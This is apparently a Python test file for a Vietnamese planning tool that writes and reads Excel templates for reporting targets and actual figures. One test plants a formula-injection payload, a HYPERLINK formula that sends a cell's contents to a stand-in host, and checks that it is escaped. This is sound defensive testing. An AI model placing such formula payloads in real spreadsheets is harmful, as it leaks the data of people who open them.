"""The Excel template (openpyxl, written) and the reader (calamine) for both sheet shapes."""
import io

import pytest
from openpyxl import load_workbook

from chitieu.errors import UserError
from chitieu.model import ExtractedPlan, Locality, PlanTarget
from chitieu.periods import PERIOD_CHOICES, parse_period
from chitieu.store.plans import save_plan
from loaders.actuals.upload import dry_run
from loaders.actuals.excel_read import read_workbook
from loaders.actuals.excel_template import template_bytes
from tests.actuals_helpers import fresh_db
from tests.make_fixtures import fill_template, wide_sheet, wide_with_percent_cell


def _wb(data):
    return load_workbook(io.BytesIO(data))


def test_template_has_one_row_per_target_locked_plan_cells_and_drop_downs():
    con = fresh_db()
    wb = _wb(template_bytes(con, ["Thành phố Quảng Ngãi"], 2022, with_children=True))
    assert wb.sheetnames == ["Hướng dẫn", "Số liệu", "Danh mục"]
    assert wb["Danh mục"].sheet_state == "hidden"
    assert "HƯỚNG DẪN" in wb["Hướng dẫn"]["A1"].value
    ws = wb["Số liệu"]
    header = [c.value for c in ws[4]]
    assert header[:6] == ["Mã địa phương", "Địa phương", "Năm", "Mã chỉ tiêu", "Tên chỉ tiêu", "Phạm vi"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5)]
    assert [(r[1], r[3], r[5] or "") for r in rows] == [
        ("Thành phố Quảng Ngãi", "economic_growth", ""), ("Thành phố Quảng Ngãi", "waste_collection_rate", "phường"),
        ("Thành phố Quảng Ngãi", "waste_collection_rate", "xã"), ("Thành phố Quảng Ngãi", "social_investment", ""),
        ("Thành phố Quảng Ngãi", "poverty_rate", ""), ("Thành phố Quảng Ngãi", "new_poor_households", ""),
        ("Thành phố Quảng Ngãi", "traffic_accidents", ""), ("Xã Tịnh Khê", "health_insurance_coverage", ""),
        ("Xã Tịnh Khê", "jobs_created", "")]
    assert rows[0][7] == 10.5 and rows[0][9] == "%" and rows[0][6] == "≥"
    assert ws.protection.sheet and not ws.protection.password
    col = {h: i + 1 for i, h in enumerate(header)}
    assert ws.cell(5, col["Chỉ tiêu kế hoạch"]).protection.locked
    for editable in ("Kỳ báo cáo", "Số thực hiện", "Tình trạng số liệu", "Số cấp trên giao", "Ghi chú"):
        assert not ws.cell(5, col[editable]).protection.locked
    formulas = {dv.formula1 for dv in ws.data_validations.dataValidation}
    assert any("Danh mục" in f and "$A$2" in f for f in formulas) and any("$B$2" in f for f in formulas)
    labels = [wb["Danh mục"].cell(i, 1).value for i in range(2, 14)]
    assert labels == [label for _, label in PERIOD_CHOICES]
    assert all(parse_period(label).code == code for code, label in PERIOD_CHOICES)  # drop-down reads back


def test_several_localities_by_repeating_the_option():
    con = fresh_db()
    ws = _wb(template_bytes(con, ["Xã Tịnh Khê", "gso_pre2025:522"], 2022))["Số liệu"]
    assert {r[1] for r in ws.iter_rows(min_row=5, values_only=True)} == {"Xã Tịnh Khê", "Thành phố Quảng Ngãi"}


def test_template_refuses_unknown_locality_and_year_without_plan():
    con = fresh_db()
    with pytest.raises(UserError) as e:
        template_bytes(con, ["Xã Không Có"], 2022)
    assert e.value.code == "unknown-locality"
    with pytest.raises(UserError) as e:
        template_bytes(con, ["Xã Tịnh Khê"], 2030)
    assert e.value.code == "no-plan-for-year" and "Chưa có kế hoạch năm 2030" in e.value.vi


def test_formula_injection_is_escaped_in_every_text_cell_and_read_back_intact():
    con = fresh_db()
    evil = '=HYPERLINK("http://x/?"&A1,"bấm")'
    save_plan(con, ExtractedPlan("evil", "evil.txt", "e", "", Locality("@Xã Lạ", "commune", "", "test", "EV"), 2022,
                                 targets=[PlanTarget("jobs_created", "ge", 10, unit="-lao động", scope=evil)]))
    data = template_bytes(con, ["test:EV"], 2022)
    ws = _wb(data)["Số liệu"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in "=+-@"], texts
    assert f"'{evil}" in texts and "'@Xã Lạ" in texts
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    filled = fill_template(data, {("jobs_created", "'" + evil): {"period": "H1", "value": 4}})
    p = dry_run(con, filled, "evil.xlsx", "a")
    assert p.ok and p.rows[0].scope == evil and not p.issues


def test_numbers_as_excel_numbers_vietnamese_text_and_percent_cells():
    con = fresh_db()
    t = template_bytes(con, ["Thành phố Quảng Ngãi"], 2022)
    filled = fill_template(t, {
        ("economic_growth", ""): {"period": "H1", "value": "7,25"},
        ("waste_collection_rate", "phường"): {"period": "FY", "value": "96%"},
        ("waste_collection_rate", "xã"): {"period": "FY", "value": "96,0 %"},
        ("social_investment", ""): {"period": "9M", "value": "1.192,5"},
        ("poverty_rate", ""): {"period": "FY", "value": 0.0096, "format": "0.00%"},
        ("new_poor_households", ""): {"period": "FY", "value": 3},
    })
    p = dry_run(con, filled, "n.xlsx", "a")
    got = {(r.indicator, r.scope): r.value for r in p.rows}
    assert got == {("economic_growth", ""): 7.25, ("waste_collection_rate", "phường"): 96.0,
                   ("waste_collection_rate", "xã"): 96.0, ("social_investment", ""): 1192.5,
                   ("poverty_rate", ""): pytest.approx(0.96), ("new_poor_households", ""): 3.0}
    assert p.ok


def test_a_fraction_typed_for_a_percent_target_is_a_warning_not_a_guess():
    con = fresh_db()
    t = template_bytes(con, ["Xã Tịnh Khê"], 2022)
    p = dry_run(con, fill_template(t, {("health_insurance_coverage", ""): {"period": "FY", "value": 0.96}}), "f.xlsx")
    assert p.rows[0].value == 0.96 and p.codes() == [(5, "value", "looks-like-fraction")]


def test_wide_sheet_headers_matched_with_catalogue_aliases_and_title_year_period():
    con = fresh_db()
    data = wide_sheet([[1, "Thành phố Quảng Ngãi", "7,5", None], [2, "TP. Quảng Ngãi", None, None],
                       [3, "Xã Tịnh Khê", None, "96,5%"]],
                      ["STT", "Đơn vị", "Tăng trưởng kinh tế (%)", "Tỷ lệ bao phủ bảo hiểm y tế"],
                      "BÁO CÁO SỐ LIỆU 6 THÁNG ĐẦU NĂM 2022")
    read = read_workbook(data, "w.xlsx")
    assert read.shape == "wide"
    assert [(r.row, r.column, r.indicator, r.year, r.period) for r in read.rows] == [
        (4, "C", "economic_growth", 2022, "6 thang"), (6, "D", "health_insurance_coverage", 2022, "6 thang")]
    p = dry_run(con, data, "w.xlsx", "a")
    assert p.ok, p.report()
    assert [(r.locality_name, r.indicator, r.period, r.value) for r in p.rows] == [
        ("Thành phố Quảng Ngãi", "economic_growth", "H1", 7.5), ("Xã Tịnh Khê", "health_insurance_coverage", "H1", 96.5)]


def test_wide_sheet_percent_formatted_cell_reads_as_percent():
    con = fresh_db()
    p = dry_run(con, wide_with_percent_cell(), "pc.xlsx", "a")
    assert p.ok and p.rows[0].value == pytest.approx(96.0)


def test_wide_sheet_without_year_uses_the_given_defaults():
    con = fresh_db()
    data = wide_sheet([["Xã Tịnh Khê", 120]], ["Địa phương", "Số lao động được tạo việc làm, giải quyết việc làm"],
                      None)
    assert dry_run(con, data, "w.xlsx").codes() == [(2, "year", "missing-year"), (2, "period", "missing-period")]
    p = dry_run(con, data, "w.xlsx", year=2022, period="FY")
    assert p.ok and (p.rows[0].year, p.rows[0].period, p.rows[0].value) == (2022, "FY", 120)
